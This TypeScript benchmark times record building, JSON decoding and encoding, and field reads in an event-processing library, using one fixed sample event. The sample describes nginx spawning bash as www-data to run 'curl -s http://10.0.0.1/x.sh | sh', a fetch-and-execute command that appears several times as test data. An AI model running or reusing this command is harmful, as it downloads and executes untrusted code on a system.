// Figures of the event room: building a record, decoding and encoding JSON, `.klog` writing and reading. Fixed input; run with
// `bun test/bench/event.bench.ts`.
import { encodeJson, JsonDecoder, RecordBuilder, RecordView } from "#event";
import { SchemaRegistry } from "#schema";

const registry = new SchemaRegistry();
const EVENT = {
  "@timestamp": "2024-05-01T10:00:00.123456789Z",
  event: { kind: "event", category: ["process"], type: ["start"], action: "exec", module: "kestrel", sequence: 123456 },
  host: { id: "6d0c2d9d", name: "web-01", os: { type: "linux" } },
  process: {
    pid: 4242,
    name: "bash",
    executable: "/usr/bin/bash",
    command_line: "bash -c curl -s http://10.0.0.1/x.sh | sh",
    args: ["bash", "-c", "curl -s http://10.0.0.1/x.sh | sh"],
    working_directory: "/var/www/html",
    entity_id: "NmQwYzJkOWQtNDI0Mg",
    parent: { pid: 4000, name: "nginx", executable: "/usr/sbin/nginx" },
  },
  user: { id: "33", name: "www-data" },
};
const LINE = JSON.stringify(EVENT);
const BYTES = new TextEncoder().encode(LINE);

/** One measurement: the best of several rounds, in nanoseconds a turn. */
export function measure(name: string, turns: number, run: (turn: number) => void): { readonly name: string; readonly ns: number } {
  let best = Number.POSITIVE_INFINITY;
  for (let round = 0; round < 7; round++) {
    const start = Bun.nanoseconds();
    for (let turn = 0; turn < turns; turn++) run(turn);
    best = Math.min(best, (Bun.nanoseconds() - start) / turns);
  }
  return { name, ns: best };
}

const builder = new RecordBuilder();
const id = (name: string): number => registry.idOf(name);
const ids = {
  time: id("@timestamp"),
  type: id("event.type"),
  pid: id("process.pid"),
  name: id("process.name"),
  executable: id("process.executable"),
  commandLine: id("process.command_line"),
  args: id("process.args"),
  parentPid: id("process.parent.pid"),
  parentName: id("process.parent.name"),
  userId: id("user.id"),
};

function build(turn: number): void {
  builder.begin2(3, turn, 0);
  builder.dateWords(ids.time, turn, 0);
  builder.keyword(ids.type, "start");
  builder.keyword(ids.userId, "33");
  builder.keyword(ids.name, "bash");
  builder.keyword(ids.executable, "/usr/bin/bash");
  builder.keyword(ids.commandLine, "bash -c curl -s http://10.0.0.1/x.sh | sh");
  builder.keywords(ids.args, ["bash", "-c", "curl -s http://10.0.0.1/x.sh | sh"]);
  builder.i64Number(ids.pid, turn);
  builder.i64Number(ids.parentPid, 4000);
  builder.keyword(ids.parentName, "nginx");
  builder.finish();
}

const decoder = new JsonDecoder(registry);
const view = new RecordView();
const results = [
  measure("build a record of 10 fields", 50_000, build),
  measure(`JSON.parse alone, ${BYTES.length} bytes`, 20_000, () => JSON.parse(LINE)),
  measure("decode a line of text", 20_000, () => decoder.decode(LINE)),
  measure("decode a line of bytes", 20_000, () => decoder.decodeBytes(BYTES, 0, BYTES.length)),
];
const size = decoder.decode(LINE) as number;
const record = decoder.builder.bytes.slice(0, size);
results.push(measure(`encode a record of ${size} bytes`, 10_000, () => encodeJson(view.reset(record, 0), registry)));
results.push(measure("read one string by id", 50_000, () => view.string(ids.commandLine)));

for (const { name, ns } of results) {
  console.log(`${name.padEnd(40)} ${ns.toFixed(0).padStart(7)} ns ${(1e9 / ns).toFixed(0).padStart(9)}/s`);
}
